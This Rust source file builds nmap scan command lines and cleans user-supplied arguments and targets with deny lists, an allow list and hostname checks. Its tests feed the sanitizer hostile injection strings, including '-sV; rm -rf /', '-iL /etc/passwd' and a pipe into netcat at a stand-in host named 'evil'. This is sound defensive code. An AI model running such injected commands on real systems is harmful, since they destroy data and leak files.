//! Scan command construction and input sanitization.
//!
//! Arguments and targets come from user-edited task definitions and end up on
//! a command line that may run under `sudo`, so both are filtered before use:
//! arguments against a deny list of options and shell metacharacters followed
//! by a character allow list, targets against IP, CIDR and hostname syntax.

use std::net::IpAddr;
use std::path::Path;
use std::sync::LazyLock;

use regex::Regex;

use crate::error::ScanError;

/// Options that only work with elevated privileges.
pub const ROOT_FLAGS: &[&str] = &[
    "-O",
    "-sS",
    "-sU",
    "-sA",
    "-sW",
    "-sM",
    "--osscan-guess",
    "--osscan-limit",
];

/// Options that read files, run scripts with arbitrary input or spawn commands.
const DENIED_OPTIONS: &[&str] = &[
    "--script-args",
    "--script-args-file",
    "-iL",
    "--script-help",
    "--script-trace",
    "--interactive",
    "--exec",
    "--execute",
    "-c",
];

const DENIED_SEQUENCES: &[&str] = &[
    ";", "&&", "||", "`", "$(", "${", ">", "<", "|", "*", "?", "~", "\\", "\n", "\r",
];

static HOSTNAME_RE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?(\.[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?)*$").ok()
});

/// Rejects dangerous arguments and strips characters outside the allow list.
pub fn sanitize_arguments(args: &str) -> Result<String, ScanError> {
    if let Some(seq) = DENIED_SEQUENCES.iter().find(|seq| args.contains(**seq)) {
        return Err(ScanError::UnsafeArguments(format!(
            "forbidden sequence {:?}",
            seq
        )));
    }

    for token in args.split_whitespace() {
        let denied = DENIED_OPTIONS.iter().find(|opt| {
            token == **opt
                || token.starts_with(&format!("{}=", opt))
                || (**opt == "-iL" && token.starts_with(*opt))
        });
        if let Some(opt) = denied {
            return Err(ScanError::UnsafeArguments(format!(
                "option {} is not allowed",
                opt
            )));
        }
    }

    let filtered: String = args
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || c.is_whitespace() || "-.,/=:_".contains(*c))
        .collect();
    Ok(filtered.split_whitespace().collect::<Vec<_>>().join(" "))
}

/// True if any argument needs root.
pub fn requires_privileges(args: &str) -> bool {
    args.split_whitespace().any(|token| ROOT_FLAGS.contains(&token))
}

fn valid_target(candidate: &str) -> Option<String> {
    if candidate.parse::<IpAddr>().is_ok() {
        return Some(candidate.to_string());
    }

    if let Some((addr, prefix)) = candidate.split_once('/') {
        let addr: IpAddr = addr.parse().ok()?;
        let prefix: u8 = prefix.parse().ok()?;
        let max = if addr.is_ipv4() { 32 } else { 128 };
        return (prefix <= max).then(|| candidate.to_string());
    }

    let host = candidate.to_ascii_lowercase();
    let matches = HOSTNAME_RE.as_ref().is_some_and(|re| re.is_match(&host));
    (host.len() <= 253 && matches).then_some(host)
}

/// Splits target entries on commas and whitespace and keeps the valid ones,
/// in order and without duplicates.
pub fn sanitize_targets(targets: &[String]) -> Vec<String> {
    let mut valid: Vec<String> = Vec::new();
    for candidate in targets
        .iter()
        .flat_map(|entry| entry.split(|c: char| c == ',' || c.is_whitespace()))
        .filter(|s| !s.is_empty())
    {
        match valid_target(candidate) {
            Some(target) if !valid.contains(&target) => valid.push(target),
            Some(_) => {}
            None => tracing::debug!(target = candidate, "Dropping invalid scan target"),
        }
    }
    valid
}

/// A fully resolved scan command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanCommand {
    pub program: String,
    pub args: Vec<String>,
    pub elevated: bool,
}

/// Builds scan command lines from sanitized inputs.
#[derive(Debug, Clone)]
pub struct CommandBuilder {
    pub binary: String,
    pub privilege_wrapper: Option<String>,
    pub stats_every: String,
}

impl CommandBuilder {
    /// `[wrapper] binary -v <args> -oX <xml> -oN <normal> --stats-every <n> <targets>`
    pub fn build(
        &self,
        scan_args: &str,
        targets: &[String],
        xml_path: &Path,
        normal_path: &Path,
        elevate: bool,
    ) -> ScanCommand {
        let mut line: Vec<String> = Vec::new();
        let wrapper = self.privilege_wrapper.as_deref().filter(|_| elevate);
        if let Some(wrapper) = wrapper {
            line.extend(wrapper.split_whitespace().map(str::to_string));
        }
        line.push(self.binary.clone());
        line.push("-v".to_string());
        line.extend(scan_args.split_whitespace().map(str::to_string));
        line.push("-oX".to_string());
        line.push(xml_path.display().to_string());
        line.push("-oN".to_string());
        line.push(normal_path.display().to_string());
        line.push("--stats-every".to_string());
        line.push(self.stats_every.clone());
        line.extend(targets.iter().cloned());

        let program = line.remove(0);
        ScanCommand {
            program,
            args: line,
            elevated: wrapper.is_some(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn test_dangerous_arguments_rejected() {
        for args in [
            "-sV; rm -rf /",
            "-iL /etc/passwd",
            "-iL/etc/hosts",
            "--script-args=user=root",
            "-T4 $(whoami)",
            "-p 80 | nc evil 1",
            "--interactive",
            "-c",
        ] {
            assert!(sanitize_arguments(args).is_err(), "accepted {args:?}");
        }
    }

    #[test]
    fn test_safe_arguments_pass_through() {
        assert_eq!(sanitize_arguments("-T4  -A -v").unwrap(), "-T4 -A -v");
        assert_eq!(
            sanitize_arguments("-p 1-1000,8080 --script=banner").unwrap(),
            "-p 1-1000,8080 --script=banner"
        );
        assert_eq!(sanitize_arguments("-sV \"quoted\"").unwrap(), "-sV quoted");
    }

    #[test]
    fn test_privilege_detection() {
        assert!(requires_privileges("-T4 -O"));
        assert!(requires_privileges("-sS -p 22"));
        assert!(!requires_privileges("-T4 -F"));
        assert!(!requires_privileges("-Og"));
    }

    #[test]
    fn test_targets_filtered_and_split() {
        let targets = vec![
            "10.0.0.1, 10.0.0.0/24".to_string(),
            "Scanme.Nmap.org  bad_host!".to_string(),
            "10.0.0.1".to_string(),
            "10.0.0.0/33".to_string(),
            "::1".to_string(),
        ];
        assert_eq!(
            sanitize_targets(&targets),
            vec!["10.0.0.1", "10.0.0.0/24", "scanme.nmap.org", "::1"]
        );
        assert!(sanitize_targets(&["bad_host!;".to_string(), "x_y".to_string()]).is_empty());
    }

    #[test]
    fn test_command_line_layout() {
        let builder = CommandBuilder {
            binary: "nmap".into(),
            privilege_wrapper: Some("sudo -n".into()),
            stats_every: "5s".into(),
        };
        let xml = PathBuf::from("/tmp/r/scan.xml");
        let txt = PathBuf::from("/tmp/r/scan.txt");
        let targets = vec!["10.0.0.1".to_string()];

        let plain = builder.build("-T4 -F", &targets, &xml, &txt, false);
        assert_eq!(plain.program, "nmap");
        assert_eq!(
            plain.args,
            vec![
                "-v", "-T4", "-F", "-oX", "/tmp/r/scan.xml", "-oN", "/tmp/r/scan.txt",
                "--stats-every", "5s", "10.0.0.1"
            ]
        );
        assert!(!plain.elevated);

        let elevated = builder.build("-O", &targets, &xml, &txt, true);
        assert_eq!(elevated.program, "sudo");
        assert_eq!(&elevated.args[..3], &["-n", "nmap", "-v"]);
        assert!(elevated.elevated);
    }
}
